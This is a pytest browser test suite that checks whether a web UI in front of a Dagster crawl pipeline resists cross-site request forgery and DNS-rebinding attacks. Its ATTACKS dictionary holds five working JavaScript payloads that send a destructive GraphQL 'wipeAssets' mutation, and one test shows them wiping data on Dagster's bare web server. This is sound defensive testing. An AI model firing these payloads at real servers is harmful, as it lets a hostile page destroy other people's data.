"""A page of another site, open in the browser of a person who has the web UI running."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from catalog_pipeline.sandbox.server import RunningShop
from catalog_pipeline_tests.answering import Reply, answering
from catalog_pipeline_tests.services.browser import chromium, open_page
from catalog_pipeline_tests.services.graphql import WebClient
from catalog_pipeline_tests.services.patience import wait_for
from catalog_pipeline_tests.services.running_services import PROJECT, RunningServices, free_port

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytest.importorskip("playwright", reason="playwright is not installed: pip install playwright")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(chromium() is None, reason="no Chromium: apt-get install chromium"),
]

NAME = "attacked"
PAGES = [1, 2, 3]
WIPE = (
    "mutation { wipeAssets(assetPartitionRanges: "
    f'[{{assetKey: {{path: ["{NAME}", "product_pages"]}}}}]) {{ __typename }} }}'
)
ATTACK_MS = 15_000
REBOUND = "rebound.test"
"""A name of the attacker's that, once the page is loaded, is this machine's address."""

ATTACKS = {
    "picture": """([url, wipe]) => new Promise(end => {
        const picture = new Image();
        picture.onload = picture.onerror = () => end("asked");
        picture.src = url + "/graphql?query=" + encodeURIComponent(wipe);
    })""",
    "fetch without cors": """async ([url, wipe]) => {
        const body = JSON.stringify({query: wipe});
        await fetch(url + "/graphql?query=" + encodeURIComponent(wipe),
            {method: "POST", mode: "no-cors", body}).catch(() => 0);
        return "asked";
    }""",
    "fetch": """async ([url, wipe]) => {
        const headers = {"Content-Type": "application/json"};
        await fetch(url + "/graphql", {method: "POST", headers,
            body: JSON.stringify({query: wipe})}).catch(() => 0);
        return "asked";
    }""",
    "form": """([url, wipe]) => new Promise(end => {
        const frame = document.createElement("iframe");
        frame.name = "target";
        document.body.appendChild(frame);
        const form = document.body.appendChild(document.createElement("form"));
        form.method = "POST";
        form.target = "target";
        form.action = url + "/graphql?query=" + encodeURIComponent(wipe);
        frame.onload = () => end("asked");
        form.submit();
    })""",
    "web socket": """([url, wipe]) => new Promise(end => {
        const socket = new WebSocket(url.replace("http", "ws") + "/graphql", "graphql-ws");
        socket.onerror = () => end("asked");
        socket.onmessage = () => end("asked");
        socket.onopen = () => {
            socket.send(JSON.stringify({type: "connection_init"}));
            socket.send(JSON.stringify({type: "start", id: "1", payload: {query: wipe}}));
        };
    })""",
}
"""What a page tries, each resolved when the browser has sent it."""


def send_from(page: Page, attack: str, url: str) -> str:
    """Let a page send the attack; "asked" once it was, which the browser may not see at all."""
    ends = f"([sent, late]) => Promise.race([({ATTACKS[attack]})(sent), new Promise(end => "
    ends += "setTimeout(() => end('no end of it'), late))])"
    return str(page.evaluate(ends, [[url, WIPE], ATTACK_MS]))


@pytest.fixture(scope="module")
def foreign_site() -> Iterator[str]:
    """The address of a site of somebody else."""
    page = Reply(b"<!doctype html><title>shop</title><body>")
    with answering(lambda request: page) as url:
        yield url.replace("127.0.0.1", "foreign.test")


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    executable = chromium()
    assert executable is not None
    with open_page(executable, "--host-resolver-rules=MAP *.test 127.0.0.1") as page:
        yield page


@pytest.fixture
def crawled(client: WebClient, common_shop: RunningShop) -> WebClient:
    """A web UI that shows some pages as done, of which none is gone when the test has ended."""
    common_shop.control(faults=[], latency_ms=0)
    if client.statuses(NAME).done != PAGES:
        run = client.launch_run(NAME, PAGES[0], PAGES[-1])
        assert wait_for("the crawl", lambda: client.has_ended(run)) == "SUCCESS"
    assert client.statuses(NAME).done == PAGES
    return client


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_page_of_another_site_wipes_nothing(
    crawled: WebClient, page: Page, foreign_site: str, attack: str
) -> None:
    page.goto(foreign_site)
    assert send_from(page, attack, crawled.url) == "asked"
    assert crawled.statuses(NAME).done == PAGES


@pytest.mark.parametrize("attack", ["fetch", "picture", "web socket"])
def test_a_name_that_turns_out_to_be_this_machine_wipes_nothing(
    crawled: WebClient, page: Page, foreign_site: str, attack: str
) -> None:
    """For the browser, page and web UI are of one origin then."""
    port = crawled.url.rpartition(":")[2]
    rebound = f"http://{REBOUND}:{port}"
    # The web UI refuses the name, so that the page comes in its stead, as before the rebinding.
    page.route(f"{rebound}/", lambda route: route.fulfill(body="<body>", content_type="text/html"))
    page.goto(f"{rebound}/")
    assert send_from(page, attack, rebound) == "asked"
    assert crawled.statuses(NAME).done == PAGES


def test_the_web_ui_itself_asks_and_wipes(crawled: WebClient, page: Page) -> None:
    """The same mutation from the UI's own page is carried out."""
    page.goto(f"{crawled.url}/assets/{NAME}/product_pages")
    page.get_by_role("button", name="Materialize").first.wait_for()
    send_from(page, "fetch", crawled.url)
    assert crawled.statuses(NAME).done == []


@pytest.mark.parametrize("attack", ["picture", "form"])
def test_dagsters_own_web_server_is_wiped_by_such_a_page(
    crawled: WebClient,
    common_services: RunningServices,
    page: Page,
    foreign_site: str,
    bare_server: WebClient,
    attack: str,
) -> None:
    """The attacks here are ones that work where nothing is in front of Dagster's server."""
    page.goto(foreign_site)
    send_from(page, attack, bare_server.url)
    wait_for("the wipe", lambda: crawled.statuses(NAME).done == [])


@pytest.fixture(scope="module")
def bare_server(common_services: RunningServices) -> Iterator[WebClient]:
    """`dagster-webserver` on the same instance, as Dagster ships it."""
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "dagster_webserver", "--port", str(port), "--empty-workspace"],
        cwd=PROJECT,
        env=common_services.marked_environment,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        client = WebClient(f"http://127.0.0.1:{port}")
        wait_for("Dagster's own web server", client.is_up)
        yield client
    finally:
        server.terminate()
        server.wait()
